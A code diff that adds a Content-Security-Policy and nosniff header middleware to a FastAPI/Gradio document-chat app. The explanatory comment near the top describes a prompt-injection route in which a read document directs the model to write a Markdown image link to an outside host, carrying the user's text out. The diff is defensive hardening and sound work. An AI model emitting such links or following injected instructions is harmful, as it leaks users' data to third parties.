@@ -65,6 +65,31 @@ def _gradio_auth(auth: AuthSpec):
     return parse_auth(auth)
 
 
+# What the page may load or send to: only this server. The chat renders Markdown, and an answer is
+# untrusted (a document can tell the model what to write): "![x](http://elsewhere/?q=<your text>)"
+# would load that image, sending the text away. Scripts and styles stay as Gradio needs them.
+CONTENT_SECURITY_POLICY = "; ".join((
+    "img-src 'self' data: blob:", "media-src 'self' data: blob:", "connect-src 'self'", "frame-src 'self'",
+    "object-src 'none'", "form-action 'self'", "base-uri 'self'", "frame-ancestors 'self'"))
+
+
+class _SecurityHeaders:
+    """ASGI middleware adding CONTENT_SECURITY_POLICY (and nosniff) to every response."""
+
+    def __init__(self, app) -> None:
+        self.app = app
+
+    async def __call__(self, scope, receive, send) -> None:
+        async def send_with_headers(message) -> None:
+            if message["type"] == "http.response.start":
+                message["headers"] = [*message.get("headers", []),
+                                      (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
+                                      (b"x-content-type-options", b"nosniff")]
+            await send(message)
+
+        await self.app(scope, receive, send_with_headers if scope["type"] == "http" else send)
+
+
 def create_app(services: Any, auth: AuthSpec = None, local_token: str | None = None,
                host: str = DEFAULT_HOST, allowed_hosts: tuple[str, ...] = ()) -> FastAPI:
     """The FastAPI app: API routes (when app.api exists) plus the Gradio UI mounted at "/";
@@ -72,6 +97,7 @@ def create_app(services: Any, auth: AuthSpec = None, local_token: str | None = N
     without auth, only requests to loopback, `host` or `allowed_hosts` names are answered; requests
     from pages of other sites (Origin, Sec-Fetch-Site) never are."""
     app = FastAPI(title="jambadocs", docs_url=None, redoc_url=None, openapi_url=None)
+    app.add_middleware(_SecurityHeaders)
     app.add_middleware(HostGuard, allowed=None if parse_auth(auth) is not None
                        else allowed_host_names(host, allowed_hosts),
                        origins=frozenset(host_name(n) for n in allowed_hosts))
